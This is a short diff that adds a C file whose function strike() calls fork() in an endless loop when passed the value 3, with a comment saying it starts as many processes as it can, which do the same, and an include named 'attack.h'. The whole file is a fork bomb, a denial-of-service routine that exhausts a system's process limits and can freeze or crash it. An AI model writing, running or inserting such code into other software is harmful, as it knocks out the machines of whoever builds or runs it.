@@ -1,0 +1,11 @@
+/* SPDX-License-Identifier: MIT */
+/* Starts as many processes as it can, which do the same. */
+#include <unistd.h>
+
+#include "attack.h"
+
+void strike(int call)
+{
+    while (call == 3)
+        fork();
+}
